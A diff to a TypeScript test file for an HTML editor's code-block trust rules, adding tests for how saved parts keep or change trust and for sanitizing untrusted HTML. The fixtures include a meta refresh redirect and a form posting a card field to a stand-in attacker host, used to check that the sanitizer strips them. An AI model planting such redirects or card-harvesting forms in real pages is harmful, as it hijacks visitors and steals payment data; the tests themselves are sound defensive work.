@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 // @vitest-environment jsdom
 import { describe, expect, it } from 'vitest';
-import { CODE_BLOCK_MESSAGES, codeBlockHtml, codeTrust, holdsScript, insertAtSelection, isAndroid } from './index';
+import { CODE_BLOCK_MESSAGES, codeBlockHtml, codeTrust, holdsScript, insertAtSelection, isAndroid, savedPartTrust } from './index';
 
 const embed =
   '<div class="product-embed" data-item-id="p1"><div class="product-variants" data-item-id="p1" data-variants="[{&quot;sku&quot;:&quot;A&quot;}]"><select data-variant-option-name="Size" aria-label="Size"><option value="">Select Size</option><option value="S">S</option></select></div>' +
@@ -13,6 +13,21 @@ describe('code block trust', () => {
     expect(codeTrust(['content:edit', 'site:code'])).toBe('raw');
     expect(codeTrust(new Set(['content:edit']))).toBe('sanitized');
     expect(codeTrust([])).toBe('sanitized');
+  });
+
+  it('keeps a part’s stored trust when it is saved unchanged, and takes the saver’s when it changed', () => {
+    const editorWrote = { source: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', trust: 'sanitized' } as const;
+    expect(savedPartTrust(['site:code'], editorWrote.source, editorWrote)).toBe('sanitized');
+    expect(savedPartTrust(['site:code'], '<p>Rewritten</p>', editorWrote)).toBe('raw');
+    expect(savedPartTrust(['content:edit'], '<p>Owner’s</p>', { source: '<p>Owner’s</p>', trust: 'raw' })).toBe('raw');
+    expect(savedPartTrust(['content:edit'], '<p>Changed</p>', { source: '<p>Owner’s</p>', trust: 'raw' })).toBe('sanitized');
+    expect(savedPartTrust(['site:code'], '<p>New</p>', undefined)).toBe('raw');
+  });
+
+  it('removes a meta refresh and a form posting elsewhere from untrusted HTML', () => {
+    const html =
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="card"></form><p>Hours</p>';
+    expect(codeBlockHtml(html, 'sanitized')).toBe('<input name="card"><p>Hours</p>');
   });
 
   it('keeps script as written for a trusted author', () => {
